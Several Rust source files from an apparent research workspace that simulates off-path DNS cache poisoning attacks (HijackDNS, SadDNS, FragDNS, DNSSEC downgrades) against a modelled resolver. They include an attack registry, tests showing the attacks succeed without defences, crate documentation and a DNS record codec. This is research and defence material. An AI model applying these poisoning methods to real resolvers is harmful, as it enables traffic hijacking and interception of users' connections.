    }
}

impl AttackVector for SadDnsAttack {
    fn method(&self) -> PoisonMethod {
        PoisonMethod::SadDns
    }

    /// SadDNS needs a long race window (generous timeout, no retries), an
    /// ephemeral-port range matching its scan range, and a rate-limited
    /// nameserver so the mute step works. This is the single place that
    /// configuration lives — the ablation, the scenarios, the examples and
    /// the tests all call it instead of hand-tuning `VictimEnvConfig`.
    fn prepare_env(&self, cfg: &mut VictimEnvConfig) {
        cfg.resolver.port_range = self.config.scan_range;
        cfg.resolver.query_timeout = Duration::from_secs(30);
        cfg.resolver.max_retries = 0;
        cfg.nameserver = cfg.nameserver.clone().with_rrl(10);
    }

    fn execute(&self, sim: &mut Simulator, env: &VictimEnv) -> AttackReport {
        self.run(sim, env)
    }
}

impl AttackVector for FragDnsAttack {
    fn method(&self) -> PoisonMethod {
        PoisonMethod::FragDns
    }

    /// FragDNS runs against the standard environment unchanged: fragment
    /// acceptance and the predictable IPID are the baseline the paper
    /// measures against, and defences toggle them off explicitly.
    fn prepare_env(&self, _cfg: &mut VictimEnvConfig) {}

    fn execute(&self, sim: &mut Simulator, env: &VictimEnv) -> AttackReport {
        self.run(sim, env)
    }
}

/// The reference HijackDNS vector: sub-prefix hijack planting an A record
/// for `www.vict.im` (one intercepted query suffices).
pub fn hijackdns() -> HijackDnsAttack {
    HijackDnsAttack::new(HijackDnsConfig::new(crate::env::addrs::ATTACKER))
}

/// The reference SadDNS vector: the 256-port scan range used throughout the
/// workspace's experiments (documented scaling knob — the scan logic is
/// identical for the full 2^16 range, see `xlayer_core::analysis`).
pub fn saddns() -> SadDnsAttack {
    let mut cfg = SadDnsConfig::new(crate::env::addrs::ATTACKER);
    cfg.scan_range = (40000, 40255);
    cfg.max_iterations = 2;
    SadDnsAttack::new(cfg)
}

/// The reference FragDNS vector: `ANY vict.im` forced down to a 548-byte
/// path MTU.
pub fn fragdns() -> FragDnsAttack {
    FragDnsAttack::new(FragDnsConfig::new(crate::env::addrs::ATTACKER))
}

/// The registry of all three methodologies under their reference
/// configurations, in the order the paper's tables list them.
pub fn all() -> Vec<Box<dyn AttackVector>> {
    vec![Box::new(hijackdns()), Box::new(saddns()), Box::new(fragdns())]
}

/// The reference vector for one methodology.
pub fn for_method(method: PoisonMethod) -> Box<dyn AttackVector> {
    match method {
        PoisonMethod::HijackDns => Box::new(hijackdns()),
        PoisonMethod::SadDns => Box::new(saddns()),
        PoisonMethod::FragDns => Box::new(fragdns()),
        PoisonMethod::DowngradeToInsecure => Box::new(crate::dnssec_vectors::downgrade()),
        PoisonMethod::Nsec3OptOutAbuse => Box::new(crate::dnssec_vectors::optout_abuse()),
        PoisonMethod::RolloverForgery => Box::new(crate::dnssec_vectors::rollover_forgery()),
        PoisonMethod::ZoneWalking => Box::new(crate::dnssec_vectors::zone_walking()),
    }
}

/// Single-iteration variants for dense evaluation grids (the countermeasure
/// ablation, the scenario success-rate matrix): SadDNS scans a 128-port
/// range in one iteration, FragDNS plants one round of fragments. This is
/// the **only** place besides [`for_method`] that maps a [`PoisonMethod`] to
/// a concrete driver — everything downstream works with `dyn AttackVector`.
pub fn quick_for(method: PoisonMethod) -> Box<dyn AttackVector> {
    match method {
        PoisonMethod::HijackDns => Box::new(hijackdns()),
        PoisonMethod::SadDns => {
            let mut cfg = SadDnsConfig::new(crate::env::addrs::ATTACKER);
            cfg.scan_range = (40000, 40127);
            cfg.max_iterations = 1;
            Box::new(SadDnsAttack::new(cfg))
        }
        PoisonMethod::FragDns => {
            let mut cfg = FragDnsConfig::new(crate::env::addrs::ATTACKER);
            cfg.max_iterations = 1;
            Box::new(FragDnsAttack::new(cfg))
        }
        // The DNSSEC vectors are single-shot already: their reference
        // configurations are the quick configurations.
        other => for_method(other),
    }
}

/// All three methodologies under their quick configurations.
pub fn quick() -> Vec<Box<dyn AttackVector>> {
    PoisonMethod::all().into_iter().map(quick_for).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::env::addrs;

    #[test]
    fn registry_covers_all_methods_in_table_order() {
        let methods: Vec<PoisonMethod> = all().iter().map(|v| v.method()).collect();
        assert_eq!(methods, PoisonMethod::all().to_vec());
        let quick_methods: Vec<PoisonMethod> = quick().iter().map(|v| v.method()).collect();
        assert_eq!(quick_methods, PoisonMethod::all().to_vec());
    }

    #[test]
    fn boxed_execution_matches_concrete_driver() {
        let boxed = for_method(PoisonMethod::HijackDns);
        let mut cfg = VictimEnvConfig::default();
        boxed.prepare_env(&mut cfg);
        let (mut sim, env) = cfg.build();
        let via_box = boxed.execute(&mut sim, &env);

        let concrete = hijackdns();
        let (mut sim, env) = VictimEnvConfig::default().build();
        let direct = concrete.run(&mut sim, &env);
        assert_eq!(via_box, direct, "dyn dispatch must not change the report");
    }

    #[test]
    fn saddns_prepare_env_matches_its_scan_range() {
        let vector = saddns();
        let mut cfg = VictimEnvConfig::default();
        vector.prepare_env(&mut cfg);
        assert_eq!(cfg.resolver.port_range, (40000, 40255));
        assert_eq!(cfg.resolver.max_retries, 0);
        assert_eq!(cfg.resolver.query_timeout, Duration::from_secs(30));
        assert!(cfg.nameserver.rrl_limit.is_some(), "the nameserver must be mutable");
    }

    #[test]
    fn quick_vectors_succeed_undefended() {
        for vector in quick() {
            let mut cfg = VictimEnvConfig { seed: 31, ..Default::default() };
            vector.prepare_env(&mut cfg);
            let (mut sim, env) = cfg.build();
            let report = vector.execute(&mut sim, &env);
            assert!(report.success, "{} must succeed without defences", vector.method());
            assert_eq!(report.malicious_addr, addrs::ATTACKER);
        }
    }
}
