//! # attacks — the three off-path DNS cache poisoning methodologies
//!
//! Faithful implementations of the poisoning methodologies of Section 3 of
//! *"From IP to Transport and Beyond: Cross-Layer Attacks Against
//! Applications"*, driven against the `netsim`/`dns`/`bgp` substrates:
//!
//! * [`hijackdns`] — interception via BGP sub-/same-prefix hijacks;
//! * [`saddns`] — source-port inference through the global ICMP rate-limit
//!   side channel plus TXID brute force;
//! * [`fragdns`] — spoofed second fragments injected into the victim's IP
//!   defragmentation cache, with exact UDP-checksum compensation ([`craft`]);
//! * [`attacker`] — the off-path attacker host model (spoofing, recording,
//!   optional impersonation);
//! * [`env`] — the standard victim environment (resolver, nameserver,
//!   client, attacker) mirroring the paper's experimental setup;
//! * [`outcome`] — attack reports and the accounting behind Table 6.
//!
//! ```
//! use attacks::prelude::*;
//!
//! // Poison the victim resolver's cache with a single intercepted query.
//! let (mut sim, env) = VictimEnvConfig::default().build();
//! let report = HijackDnsAttack::new(HijackDnsConfig::new(env.attacker_addr)).run(&mut sim, &env);
//! assert!(report.success);
//! assert!(env.poisoned(&sim, &"www.vict.im".parse().unwrap(), env.attacker_addr));
//! ```
#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod attacker;
pub mod craft;
pub mod dnssec_vectors;
pub mod env;
pub mod fragdns;
pub mod hijackdns;
pub mod outcome;
pub mod saddns;
pub mod vectors;

/// Convenience re-exports.
pub mod prelude {
    pub use crate::attacker::{AttackerNode, ObservedIcmp, ObservedUdp};
    pub use crate::craft::{craft_malicious_tail, fragment_layout, record_spans, CraftedTail, RecordSpan};
    pub use crate::dnssec_vectors::{
        DowngradeToInsecureAttack, Nsec3OptOutAbuseAttack, RolloverForgeryAttack, ZoneWalkingAttack,
    };
    pub use crate::env::{
        addrs, EnvTemplate, QueryTrigger, SignedZoneProfile, VictimEnv, VictimEnvConfig, ZoneSecurity,
    };
    pub use crate::fragdns::{FragDnsAttack, FragDnsConfig};
    pub use crate::hijackdns::{HijackDnsAttack, HijackDnsConfig, HijackForgery, HijackKind};
    pub use crate::outcome::{AttackAggregate, AttackReport, FailureReason, PoisonMethod, Stealth};
    pub use crate::saddns::{SadDnsAttack, SadDnsConfig, CLOSED_PORT_PROBE_BASE, ICMP_PROBE_BATCH};
    pub use crate::vectors::{self, AttackVector};
}

pub use prelude::*;
