//! # dns — the DNS substrate of the cross-layer-attacks workspace
//!
//! This crate implements everything DNS-shaped the paper's attacks and
//! measurements touch, from the wire format up to complete resolver and
//! nameserver hosts that plug into the `netsim` discrete-event engine:
//!
//! * [`name`] — domain names, wire encoding with compression, 0x20 encoding;
//! * [`rdata`] / [`message`] — resource records and the full message codec
//!   (A, NS, CNAME, SOA, MX, TXT, SRV, NAPTR, IPSECKEY, OPT/EDNS, ANY, ...);
//! * [`zone`] — authoritative zone data with a builder covering every record
//!   type used by the applications in Table 1;
//! * [`dnssec`] — the deterministic signing pipeline: key management with
//!   RFC 6781 rollover, RRSIG generation over canonical RRsets, NSEC/NSEC3
//!   authenticated denial, and the DS-anchored validator;
//! * [`cache`] — the resolver cache, TTLs, ANY-caching policies (Table 5) and
//!   the poisoning-inspection helpers used by the attack harnesses;
//! * [`nameserver`] — an authoritative server with RRL, PMTUD reaction,
//!   response fragmentation, IP-ID policies and record-order randomisation;
//! * [`resolver`] — a recursive resolver with RFC 5452 defences (random ports
//!   and TXIDs), optional 0x20 and DNSSEC validation, bailiwick filtering,
//!   EDNS buffer sizes, a forwarder mode, and the OS-level side channels
//!   (global ICMP rate limit, fragment acceptance) the attacks exploit;
//! * [`client`] — a stub client for triggering queries and observing answers;
//! * [`well_known_ports`] — the single registry of fixed ports (DNS 53,
//!   HTTP 80, the resolver's upstream TCP port, client query ports);
//! * [`profiles`] — behaviour profiles of the five resolver implementations
//!   evaluated in Table 5.
//!
//! ```
//! use dns::prelude::*;
//! use netsim::prelude::*;
//!
//! // One query, end to end: client -> resolver -> authoritative nameserver.
//! let resolver_addr: Ipv4Addr = "30.0.0.1".parse().unwrap();
//! let ns_addr: Ipv4Addr = "123.0.0.53".parse().unwrap();
//! let client_addr: Ipv4Addr = "30.0.0.25".parse().unwrap();
//!
//! let mut zone = Zone::new("vict.im".parse().unwrap());
//! zone.add_a("www.vict.im", "30.0.0.80".parse().unwrap());
//!
//! let resolver = Resolver::new(
//!     ResolverConfig::new(resolver_addr).with_delegation("vict.im", vec![ns_addr], false),
//! );
//! let nameserver = Nameserver::new(NameserverConfig::new(ns_addr), vec![zone]);
//! let mut client = StubClient::new(client_addr, resolver_addr);
//! client.query("www.vict.im", RecordType::A);
//!
//! let mut sim = Simulator::new(1);
//! let c = sim.add_node("client", vec![client_addr], client);
//! sim.add_node("resolver", vec![resolver_addr], resolver);
//! sim.add_node("ns", vec![ns_addr], nameserver);
//! sim.run();
//!
//! let client = sim.node_ref::<StubClient>(c).unwrap();
//! assert_eq!(
//!     client.resolved_address(&"www.vict.im".parse().unwrap()),
//!     Some("30.0.0.80".parse().unwrap()),
//! );
//! ```
#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod cache;
pub mod client;
pub mod dnssec;
pub mod farm;
pub mod message;
pub mod name;
pub mod nameserver;
pub mod profiles;
pub mod rdata;
pub mod resolver;
pub mod well_known_ports;
pub mod zone;

/// Convenience re-exports.
pub mod prelude {
    pub use crate::cache::{AnyCachingPolicy, Cache, CacheEntry, SharedCache};
    pub use crate::client::{CompletedLookup, StubClient};
    pub use crate::dnssec::{
        DenialConfig, DsAnchor, KeyManager, KeyPair, RolloverState, Signer, SigningPolicy, Validation, Validator,
    };
    pub use crate::message::{frame_tcp, Header, Message, Question, Rcode, TcpFrameBuffer};
    pub use crate::name::DomainName;
    pub use crate::nameserver::{Nameserver, NameserverConfig, NameserverStats};
    pub use crate::profiles::ResolverImplementation;
    pub use crate::rdata::{RData, RecordType, ResourceRecord};
    pub use crate::resolver::{
        Delegation, PortPolicy, Resolver, ResolverConfig, ResolverStats, UpstreamTransport, RESOLVER_TCP_PORT,
    };
    pub use crate::well_known_ports;
    pub use crate::zone::{LookupResult, Zone};
}

pub use prelude::*;
