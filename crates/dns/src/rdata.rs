//! Resource record types and RDATA encoding.
//!
//! The record types implemented here are exactly those Table 1 of the paper
//! lists as attack vectors: `A` (address hijack), `NS` (application-agnostic
//! cache poisoning), `CNAME` (used by the FragDNS vulnerability probe), `MX`
//! (email interception and bounce-triggered queries), `TXT` (SPF / DKIM /
//! DMARC downgrade), `SRV` and `NAPTR` (XMPP and Radius/eduroam peer
//! discovery), `IPSECKEY` (opportunistic IPsec hijack), plus `SOA`, `OPT`
//! (EDNS buffer sizes, Figure 4) and the `ANY` query type used to inflate
//! response sizes past the fragmentation threshold.

use crate::name::{DomainName, NameError};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::fmt;
use std::net::Ipv4Addr;

/// DNS record/query types.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum RecordType {
    /// IPv4 address record.
    A,
    /// Authoritative nameserver.
    NS,
    /// Canonical name (alias).
    CNAME,
    /// Start of authority.
    SOA,
    /// Mail exchanger.
    MX,
    /// Free-form text (SPF/DKIM/DMARC policies).
    TXT,
    /// IPv6 address record (carried as opaque 16 bytes).
    AAAA,
    /// Service locator (XMPP, SIP, ...).
    SRV,
    /// Naming authority pointer (Radius/eduroam dynamic discovery).
    NAPTR,
    /// IPsec keying material for opportunistic encryption.
    IPSECKEY,
    /// EDNS(0) pseudo-record.
    OPT,
    /// DNSSEC: delegation signer digest, the parent-side link of the chain
    /// of trust (RFC 4034 §5).
    DS,
    /// DNSSEC: zone signing key (RFC 4034 §2).
    DNSKEY,
    /// DNSSEC: signature over a canonical RRset (RFC 4034 §3).
    RRSIG,
    /// DNSSEC: authenticated denial of existence (RFC 4034 §4).
    NSEC,
    /// DNSSEC: hashed authenticated denial of existence (RFC 5155).
    NSEC3,
    /// Query-only meta type matching every record at a name.
    ANY,
    /// Any other type, carried by its numeric value.
    Unknown(u16),
}

impl RecordType {
    /// Wire value of the type.
    pub fn number(self) -> u16 {
        match self {
            RecordType::A => 1,
            RecordType::NS => 2,
            RecordType::CNAME => 5,
            RecordType::SOA => 6,
            RecordType::MX => 15,
            RecordType::TXT => 16,
            RecordType::AAAA => 28,
            RecordType::SRV => 33,
            RecordType::NAPTR => 35,
            RecordType::OPT => 41,
            RecordType::DS => 43,
            RecordType::IPSECKEY => 45,
            RecordType::RRSIG => 46,
            RecordType::NSEC => 47,
            RecordType::DNSKEY => 48,
            RecordType::NSEC3 => 50,
            RecordType::ANY => 255,
            RecordType::Unknown(n) => n,
        }
    }

    /// Parses a wire type value.
    pub fn from_number(n: u16) -> Self {
        match n {
            1 => RecordType::A,
            2 => RecordType::NS,
            5 => RecordType::CNAME,
            6 => RecordType::SOA,
            15 => RecordType::MX,
            16 => RecordType::TXT,
            28 => RecordType::AAAA,
            33 => RecordType::SRV,
            35 => RecordType::NAPTR,
            41 => RecordType::OPT,
            43 => RecordType::DS,
            45 => RecordType::IPSECKEY,
            46 => RecordType::RRSIG,
            47 => RecordType::NSEC,
            48 => RecordType::DNSKEY,
            50 => RecordType::NSEC3,
            255 => RecordType::ANY,
            other => RecordType::Unknown(other),
        }
    }
}

impl fmt::Display for RecordType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            RecordType::Unknown(n) => write!(f, "TYPE{n}"),
            other => write!(f, "{other:?}"),
        }
    }
}

/// Record data, one variant per supported type.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum RData {
    /// IPv4 address.
    A(Ipv4Addr),
    /// Nameserver host name.
    Ns(DomainName),
    /// Alias target.
    Cname(DomainName),
    /// Start of authority.
    Soa {
        /// Primary nameserver.
        mname: DomainName,
        /// Responsible mailbox.
        rname: DomainName,
        /// Zone serial number.
        serial: u32,
        /// Refresh interval (seconds).
        refresh: u32,
        /// Retry interval (seconds).
        retry: u32,
        /// Expire interval (seconds).
        expire: u32,
        /// Negative-caching TTL (seconds).
        minimum: u32,
    },
    /// Mail exchanger.
    Mx {
        /// Preference (lower is preferred).
        preference: u16,
        /// Mail server host name.
        exchange: DomainName,
    },
    /// Text record (one or more character strings, joined).
    Txt(String),
    /// IPv6 address (opaque 16 bytes).
    Aaaa([u8; 16]),
    /// Service record.
    Srv {
        /// Priority (lower is preferred).
        priority: u16,
        /// Weight for equal-priority selection.
        weight: u16,
        /// Service port.
        port: u16,
        /// Target host name.
        target: DomainName,
    },
    /// Naming authority pointer.
    Naptr {
        /// Order.
        order: u16,
        /// Preference.
        preference: u16,
        /// Flags string.
        flags: String,
        /// Service string (e.g. "aaa+auth:radius.tls.tcp").
        service: String,
        /// Regexp string.
        regexp: String,
        /// Replacement domain.
        replacement: DomainName,
    },
    /// IPsec key (simplified: gateway plus opaque key bytes).
    IpsecKey {
        /// Gateway precedence.
        precedence: u8,
        /// Gateway address.
        gateway: Ipv4Addr,
        /// Public key bytes.
        public_key: Vec<u8>,
    },
    /// DNSSEC zone key (RFC 4034 §2). The `public_key` bytes are the keyed-
    /// hash verification key of the simulation's crypto stand-in.
    Dnskey {
        /// Key flags: 256 = zone key (ZSK), 257 = zone key + SEP bit (KSK).
        flags: u16,
        /// Signing algorithm number (the simulation uses 253, PRIVATEDNS).
        algorithm: u8,
        /// Verification key bytes.
        public_key: Vec<u8>,
    },
    /// Delegation signer (RFC 4034 §5): a digest of the child zone's KSK,
    /// published at the parent. Resolver trust anchors are DS records.
    Ds {
        /// Key tag of the DNSKEY this digest commits to.
        key_tag: u16,
        /// Signing algorithm of that key.
        algorithm: u8,
        /// Digest algorithm number.
        digest_type: u8,
        /// The digest bytes.
        digest: Vec<u8>,
    },
    /// DNSSEC signature over one canonical RRset (RFC 4034 §3).
    Rrsig {
        /// The record type this signature covers.
        type_covered: RecordType,
        /// Signing algorithm number.
        algorithm: u8,
        /// Label count of the owner name (no wildcard expansion modelled).
        labels: u8,
        /// Original TTL of the covered RRset (part of the signed data).
        original_ttl: u32,
        /// Expiration of the signature, in seconds of simulation time.
        expiration: u32,
        /// Inception of the signature, in seconds of simulation time.
        inception: u32,
        /// Key tag of the DNSKEY that produced the signature.
        key_tag: u16,
        /// The zone that produced the signature.
        signer: DomainName,
        /// The signature bytes (keyed hash over the canonical RRset).
        signature: Vec<u8>,
    },
    /// Authenticated denial of existence (RFC 4034 §4): the next owner name
    /// in canonical zone order and the types present at this owner.
    Nsec {
        /// Next owner name in the canonical chain (wraps to the apex).
        next: DomainName,
        /// Types present at this owner name.
        types: Vec<RecordType>,
    },
    /// Hashed authenticated denial of existence (RFC 5155).
    Nsec3 {
        /// Hash algorithm number.
        hash_algorithm: u8,
        /// Flags; bit 0 is opt-out (spans may cover unsigned delegations).
        flags: u8,
        /// Extra hash iterations.
        iterations: u16,
        /// Hash salt.
        salt: Vec<u8>,
        /// Next hashed owner in hash order (wraps around).
        next_hashed: Vec<u8>,
        /// Types present at the owner this hash commits to.
        types: Vec<RecordType>,
    },
    /// EDNS(0) OPT pseudo-record payload: requestor's UDP payload size.
    Opt {
        /// Advertised maximum UDP payload size.
        udp_payload_size: u16,
    },
    /// Unknown type: raw RDATA bytes.
    Raw(Vec<u8>),
}

impl RData {
    /// The record type this data belongs to.
    pub fn record_type(&self) -> RecordType {
        match self {
            RData::A(_) => RecordType::A,
            RData::Ns(_) => RecordType::NS,
            RData::Cname(_) => RecordType::CNAME,
            RData::Soa { .. } => RecordType::SOA,
            RData::Mx { .. } => RecordType::MX,
            RData::Txt(_) => RecordType::TXT,
            RData::Aaaa(_) => RecordType::AAAA,
            RData::Srv { .. } => RecordType::SRV,
            RData::Naptr { .. } => RecordType::NAPTR,
            RData::IpsecKey { .. } => RecordType::IPSECKEY,
            RData::Dnskey { .. } => RecordType::DNSKEY,
            RData::Ds { .. } => RecordType::DS,
            RData::Rrsig { .. } => RecordType::RRSIG,
            RData::Nsec { .. } => RecordType::NSEC,
            RData::Nsec3 { .. } => RecordType::NSEC3,
            RData::Opt { .. } => RecordType::OPT,
            RData::Raw(_) => RecordType::Unknown(0),
        }
    }

    /// Encodes the RDATA (without the length prefix). Name compression is
    /// deliberately *not* used inside RDATA so record sizes are predictable —
    /// which also matches the "randomise/minimise responses" discussion.
    pub fn encode(&self, buf: &mut Vec<u8>) {
        match self {
            RData::A(addr) => buf.extend_from_slice(&addr.octets()),
            RData::Ns(name) | RData::Cname(name) => name.encode(buf, None),
            RData::Soa { mname, rname, serial, refresh, retry, expire, minimum } => {
                mname.encode(buf, None);
                rname.encode(buf, None);
                for v in [serial, refresh, retry, expire, minimum] {
                    buf.extend_from_slice(&v.to_be_bytes());
                }
            }
            RData::Mx { preference, exchange } => {
                buf.extend_from_slice(&preference.to_be_bytes());
                exchange.encode(buf, None);
            }
            RData::Txt(text) => {
                // Split into 255-byte character strings.
                let bytes = text.as_bytes();
                if bytes.is_empty() {
                    buf.push(0);
                }
                for chunk in bytes.chunks(255) {
                    buf.push(chunk.len() as u8);
                    buf.extend_from_slice(chunk);
                }
            }
            RData::Aaaa(bytes) => buf.extend_from_slice(bytes),
            RData::Srv { priority, weight, port, target } => {
                buf.extend_from_slice(&priority.to_be_bytes());
                buf.extend_from_slice(&weight.to_be_bytes());
                buf.extend_from_slice(&port.to_be_bytes());
                target.encode(buf, None);
            }
            RData::Naptr { order, preference, flags, service, regexp, replacement } => {
                buf.extend_from_slice(&order.to_be_bytes());
                buf.extend_from_slice(&preference.to_be_bytes());
                for s in [flags, service, regexp] {
                    buf.push(s.len() as u8);
                    buf.extend_from_slice(s.as_bytes());
                }
                replacement.encode(buf, None);
            }
            RData::IpsecKey { precedence, gateway, public_key } => {
                buf.push(*precedence);
                buf.push(1); // gateway type: IPv4
                buf.push(2); // algorithm: RSA (nominal)
                buf.extend_from_slice(&gateway.octets());
                buf.extend_from_slice(public_key);
            }
            RData::Dnskey { flags, algorithm, public_key } => {
                buf.extend_from_slice(&flags.to_be_bytes());
                buf.push(3); // protocol: always 3 (RFC 4034 §2.1.2)
                buf.push(*algorithm);
                buf.extend_from_slice(public_key);
            }
            RData::Ds { key_tag, algorithm, digest_type, digest } => {
                buf.extend_from_slice(&key_tag.to_be_bytes());
                buf.push(*algorithm);
                buf.push(*digest_type);
                buf.extend_from_slice(digest);
            }
            RData::Rrsig {
                type_covered,
                algorithm,
                labels,
                original_ttl,
                expiration,
                inception,
                key_tag,
                signer,
                signature,
            } => {
                buf.extend_from_slice(&type_covered.number().to_be_bytes());
                buf.push(*algorithm);
                buf.push(*labels);
                buf.extend_from_slice(&original_ttl.to_be_bytes());
                buf.extend_from_slice(&expiration.to_be_bytes());
                buf.extend_from_slice(&inception.to_be_bytes());
                buf.extend_from_slice(&key_tag.to_be_bytes());
                signer.encode(buf, None);
                buf.extend_from_slice(signature);
            }
            RData::Nsec { next, types } => {
                next.encode(buf, None);
                encode_type_bitmap(types, buf);
            }
            RData::Nsec3 { hash_algorithm, flags, iterations, salt, next_hashed, types } => {
                buf.push(*hash_algorithm);
                buf.push(*flags);
                buf.extend_from_slice(&iterations.to_be_bytes());
                buf.push(salt.len() as u8);
                buf.extend_from_slice(salt);
                buf.push(next_hashed.len() as u8);
                buf.extend_from_slice(next_hashed);
                encode_type_bitmap(types, buf);
            }
            RData::Opt { udp_payload_size } => {
                // OPT carries its payload size in the CLASS field; the RDATA
                // itself is empty in our model. Encode the size here only so
                // raw storage round-trips.
                buf.extend_from_slice(&udp_payload_size.to_be_bytes());
            }
            RData::Raw(bytes) => buf.extend_from_slice(bytes),
        }
    }

    /// Decodes RDATA of the given type from `msg[offset..offset+len]`.
    ///
    /// Every read is confined to the claimed RDLENGTH window: names and
    /// strings inside RDATA may *point* backwards (compression) but their
    /// inline bytes must lie within `offset..offset+len`, and for typed
    /// records the content must fill the window exactly. A record whose
    /// RDLENGTH disagrees with its content is rejected instead of silently
    /// reading its neighbours' bytes and resyncing — two parsers must never
    /// disagree about where a record ends.
    /// Regression (fuzz: dns_rr/rdlen_escape.bin, dns_rr/rdlen_slack.bin).
    pub fn decode(rtype: RecordType, msg: &[u8], offset: usize, len: usize) -> Result<RData, NameError> {
        let end = offset.checked_add(len).ok_or(NameError::Truncated)?;
        let slice = msg.get(offset..end).ok_or(NameError::Truncated)?;
        // Names inside RDATA decode against the message clipped at the
        // window's end: backward compression pointers still resolve, but
        // inline labels cannot escape the RDLENGTH.
        let view = &msg[..end];
        let (out, consumed) = match rtype {
            RecordType::A => {
                if slice.len() < 4 {
                    return Err(NameError::Truncated);
                }
                (RData::A(Ipv4Addr::new(slice[0], slice[1], slice[2], slice[3])), 4)
            }
            RecordType::NS => {
                let (name, pos) = DomainName::decode(view, offset)?;
                (RData::Ns(name), pos - offset)
            }
            RecordType::CNAME => {
                let (name, pos) = DomainName::decode(view, offset)?;
                (RData::Cname(name), pos - offset)
            }
            RecordType::SOA => {
                let (mname, pos) = DomainName::decode(view, offset)?;
                let (rname, pos) = DomainName::decode(view, pos)?;
                let ints = view.get(pos..pos + 20).ok_or(NameError::Truncated)?;
                let g = |i: usize| u32::from_be_bytes([ints[i], ints[i + 1], ints[i + 2], ints[i + 3]]);
                (
                    RData::Soa {
                        mname,
                        rname,
                        serial: g(0),
                        refresh: g(4),
                        retry: g(8),
                        expire: g(12),
                        minimum: g(16),
                    },
                    pos + 20 - offset,
                )
            }
            RecordType::MX => {
                if slice.len() < 2 {
                    return Err(NameError::Truncated);
                }
                let preference = u16::from_be_bytes([slice[0], slice[1]]);
                let (exchange, pos) = DomainName::decode(view, offset + 2)?;
                (RData::Mx { preference, exchange }, pos - offset)
            }
            RecordType::TXT => {
                let mut text = String::new();
                let mut pos = 0usize;
                while pos < slice.len() {
                    let l = slice[pos] as usize;
                    let chunk = slice.get(pos + 1..pos + 1 + l).ok_or(NameError::Truncated)?;
                    text.push_str(&String::from_utf8_lossy(chunk));
                    pos += 1 + l;
                }
                (RData::Txt(text), pos)
            }
            RecordType::AAAA => {
                let bytes: [u8; 16] = slice.try_into().map_err(|_| NameError::Truncated)?;
                (RData::Aaaa(bytes), 16)
            }
            RecordType::SRV => {
                if slice.len() < 6 {
                    return Err(NameError::Truncated);
                }
                let priority = u16::from_be_bytes([slice[0], slice[1]]);
                let weight = u16::from_be_bytes([slice[2], slice[3]]);
                let port = u16::from_be_bytes([slice[4], slice[5]]);
                let (target, pos) = DomainName::decode(view, offset + 6)?;
                (RData::Srv { priority, weight, port, target }, pos - offset)
            }
            RecordType::NAPTR => {
                if slice.len() < 4 {
                    return Err(NameError::Truncated);
                }
                let order = u16::from_be_bytes([slice[0], slice[1]]);
                let preference = u16::from_be_bytes([slice[2], slice[3]]);
                let mut pos = offset + 4;
                let mut strings = Vec::new();
                for _ in 0..3 {
                    let l = *view.get(pos).ok_or(NameError::Truncated)? as usize;
                    let s = view.get(pos + 1..pos + 1 + l).ok_or(NameError::Truncated)?;
                    strings.push(String::from_utf8_lossy(s).to_string());
                    pos += 1 + l;
                }
                let (replacement, pos) = DomainName::decode(view, pos)?;
                (
                    RData::Naptr {
                        order,
                        preference,
                        flags: strings[0].clone(),
                        service: strings[1].clone(),
                        regexp: strings[2].clone(),
                        replacement,
                    },
                    pos - offset,
                )
            }
            RecordType::IPSECKEY => {
                if slice.len() < 7 {
                    return Err(NameError::Truncated);
                }
                let precedence = slice[0];
                let gateway = Ipv4Addr::new(slice[3], slice[4], slice[5], slice[6]);
                (RData::IpsecKey { precedence, gateway, public_key: slice[7..].to_vec() }, slice.len())
            }
            RecordType::DNSKEY => {
                if slice.len() < 4 {
                    return Err(NameError::Truncated);
                }
                let flags = u16::from_be_bytes([slice[0], slice[1]]);
                // slice[2] is the protocol octet; RFC 4034 fixes it at 3 and
                // the canonical encoder always writes 3.
                let algorithm = slice[3];
                (RData::Dnskey { flags, algorithm, public_key: slice[4..].to_vec() }, slice.len())
            }
            RecordType::DS => {
                if slice.len() < 4 {
                    return Err(NameError::Truncated);
                }
                let key_tag = u16::from_be_bytes([slice[0], slice[1]]);
                (
                    RData::Ds { key_tag, algorithm: slice[2], digest_type: slice[3], digest: slice[4..].to_vec() },
                    slice.len(),
                )
            }
            RecordType::RRSIG => {
                if slice.len() < 18 {
                    return Err(NameError::Truncated);
                }
                let type_covered = RecordType::from_number(u16::from_be_bytes([slice[0], slice[1]]));
                let g = |i: usize| u32::from_be_bytes([slice[i], slice[i + 1], slice[i + 2], slice[i + 3]]);
                let (signer, pos) = DomainName::decode(view, offset + 18)?;
                (
                    RData::Rrsig {
                        type_covered,
                        algorithm: slice[2],
                        labels: slice[3],
                        original_ttl: g(4),
                        expiration: g(8),
                        inception: g(12),
                        key_tag: u16::from_be_bytes([slice[16], slice[17]]),
                        signer,
                        signature: view[pos..end].to_vec(),
                    },
                    end - offset,
                )
            }
            RecordType::NSEC => {
                let (next, pos) = DomainName::decode(view, offset)?;
                let types = decode_type_bitmap(&view[pos..end])?;
                (RData::Nsec { next, types }, end - offset)
            }
            RecordType::NSEC3 => {
                if slice.len() < 5 {
                    return Err(NameError::Truncated);
                }
                let salt_len = slice[4] as usize;
                let salt = slice.get(5..5 + salt_len).ok_or(NameError::Truncated)?.to_vec();
                let hash_pos = 5 + salt_len;
                let hash_len = *slice.get(hash_pos).ok_or(NameError::Truncated)? as usize;
                let next_hashed =
                    slice.get(hash_pos + 1..hash_pos + 1 + hash_len).ok_or(NameError::Truncated)?.to_vec();
                let types = decode_type_bitmap(&slice[hash_pos + 1 + hash_len..])?;
                (
                    RData::Nsec3 {
                        hash_algorithm: slice[0],
                        flags: slice[1],
                        iterations: u16::from_be_bytes([slice[2], slice[3]]),
                        salt,
                        next_hashed,
                        types,
                    },
                    slice.len(),
                )
            }
            RecordType::OPT => {
                let size = if slice.len() >= 2 { u16::from_be_bytes([slice[0], slice[1]]) } else { 512 };
                (RData::Opt { udp_payload_size: size }, slice.len())
            }
            _ => (RData::Raw(slice.to_vec()), slice.len()),
        };
        if consumed != len {
            return Err(NameError::RdataLengthMismatch);
        }
        Ok(out)
    }

    /// For an RRSIG, the type it covers; otherwise the record's own type.
    /// This is the key the cache files records under, so signatures travel
    /// with the RRset they authenticate.
